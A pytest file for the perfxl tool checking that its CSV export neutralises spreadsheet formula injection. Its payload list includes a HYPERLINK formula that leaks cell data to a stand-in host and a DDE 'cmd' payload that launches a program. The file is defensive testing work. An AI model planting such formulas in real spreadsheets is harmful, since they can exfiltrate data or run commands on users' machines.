"""CSV written by consolidate --csv is inert in Excel (issue 11, attack 7; OWASP CSV injection).

A unit types formulas into its workbook; the summary workbook stores them as text, and the CSV gives
each text cell that starts with = + - @ TAB or CR a leading apostrophe. Numbers stay numbers.
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

import perfxl
from perfxl.cli import main
from perfxl.consolidate import consolidate
from perfxl.model import unit_from_dict
from perfxl.summary import neutralize_csv_text, write_csv

from conftest import SAMPLES
from units import clean

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-2+3"]


@pytest.mark.parametrize("text", [*PAYLOADS, "\tx", "\rx", "=", "-"])
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert neutralize_csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["绩效目标", "", " =not at the start", "'already", "5", 5, -5, 0.25, None, True])
def test_other_values_are_unchanged(value):
    assert neutralize_csv_text(value) == value


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig"))))


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    """A unit that typed formulas into its indicator names, descriptions and notes, consolidated."""
    d = tmp_path_factory.mktemp("poisoned")
    data = clean()
    inds = data["projects"][0]["indicators"]
    for ind, payload in zip(inds, PAYLOADS):
        ind["name"] = payload
        ind["description"] = payload
    unit = unit_from_dict(data)
    perfxl.write_workbook(unit, perfxl.load_framework(data.get("framework", "hebei-2023")), d / "in")
    return consolidate([d / "in"], SAMPLES / "register.xlsx", budget_year=unit.budget_year)


def test_csv_of_a_round_neutralises_every_typed_formula(poisoned, tmp_path):
    paths = write_csv(poisoned, tmp_path)
    cells = {cell for p in paths for row in _rows(p) for cell in row.values()}
    for payload in PAYLOADS:
        assert "'" + payload in cells and payload not in cells
    for p in paths:
        for row in _rows(p):
            for col, cell in row.items():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (p.name, col, cell)
    names = [r["三级指标"] for r in _rows(tmp_path / "指标.csv")]
    assert {"'" + x for x in PAYLOADS} <= set(names)


def test_numbers_stay_numbers_in_the_csv(poisoned, tmp_path):
    poisoned.tables["projects"].loc[0, "预算数"] = -5  # a negative number is a number, not a formula
    poisoned.tables["indicators"]["指标值"] = poisoned.tables["indicators"]["指标值"].astype(object)
    poisoned.tables["indicators"].loc[0, "指标值"] = -1.5
    poisoned.tables["indicators"].loc[1, "指标值"] = "\tcontrol"
    write_csv(poisoned, tmp_path)
    projects = _rows(tmp_path / "项目.csv")
    assert projects[0]["预算数"] in ("-5", "-5.0")
    indicators = _rows(tmp_path / "指标.csv")
    assert indicators[0]["指标值"] == "-1.5" and indicators[1]["指标值"] == "'\tcontrol"
    counts = _rows(tmp_path / "提交情况.csv")
    assert all(not r["错误"].startswith("'") for r in counts)


def test_consolidate_csv_option_writes_neutral_csv(poisoned, tmp_path):
    src = Path(poisoned.run.files[0].path).parent
    r = CliRunner().invoke(main, ["consolidate", str(src), "-r", str(SAMPLES / "register.xlsx"), "-o",
                                  str(tmp_path / "汇总.xlsx"), "--csv", str(tmp_path / "csv"), "--year",
                                  str(poisoned.budget_year)])
    assert r.exit_code == 0, r.output
    names = [row["三级指标"] for row in _rows(tmp_path / "csv" / "指标.csv")]
    assert "'" + PAYLOADS[1] in names and PAYLOADS[1] not in names
